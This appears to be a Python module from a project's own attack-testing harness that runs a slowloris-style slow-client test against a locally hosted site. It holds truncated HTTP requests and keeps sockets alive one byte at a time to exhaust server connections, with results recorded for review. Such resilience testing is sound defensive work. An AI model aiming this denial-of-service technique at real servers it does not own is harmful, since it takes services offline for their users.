"""Slow clients: forms that never end, requests that never begin, sounds that are never fetched."""

import socket
import time

from tools.attack.hostile.sounds import wav
from tools.attack.site import Row, Site


def attack(site: Site, *, connections: int, seconds: float) -> Row:
    """So many connections of each kind at once, for so long."""
    import numpy as np

    # Nine minutes of sound that does not shrink: nobody's buffers hold all of it.
    noise = np.random.default_rng(1).uniform(-0.4, 0.4, 540 * 16_000)
    site.send("sound", [("long.wav", wav(noise))])
    fell = [] if site.wait_for_jobs(120) else ["the long sound was not opened in two minutes"]
    ((take,),) = site.sql("SELECT max(id) FROM sound_take WHERE production_id = %s", site.production)
    port, cookies = site.attacker.port, "; ".join(f"{n}={v}" for n, v in site.attacker.cookies.items())
    head = f"Host: localhost:{port}\r\nCookie: {cookies}\r\n"
    form = f"Content-Type: multipart/form-data; boundary=x\r\nX-CSRFToken: {site.attacker.cookies['csrftoken']}\r\n"
    starts = (
        f"POST /productions/{site.production}/takes/upload HTTP/1.1\r\n{head}{form}Content-Length: 50000000\r\n\r\n--x",
        f"GET /takes/{take}/sound HTTP/1.1\r\n{head}\r\n",
        f"GET /takes/{take}/sound HTTP/1.1\r\n{head}Range: bytes=1000-\r\n\r\n",
        "GET / HTTP/1.1\r\nHos",
        f"POST /account/login/ HTTP/1.1\r\nHost: localhost:{port}\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nab",
    )
    open_: list[socket.socket] = []
    watch = site.watch()
    try:
        for start in starts:
            for _ in range(connections):
                client = socket.socket()
                client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
                client.settimeout(5)
                client.connect(("127.0.0.1", port))
                client.sendall(start.encode())
                open_.append(client)
        until = time.monotonic() + seconds
        while time.monotonic() < until:
            time.sleep(1)
            for client in open_:
                try:
                    client.sendall(b"a")
                except OSError:
                    continue
    finally:
        for client in open_:
            client.close()
        seen = watch.stop()
    return Row("slow clients", len(open_), f"{seconds:.0f} s long; {seen.told}", (*fell, *seen.fell))
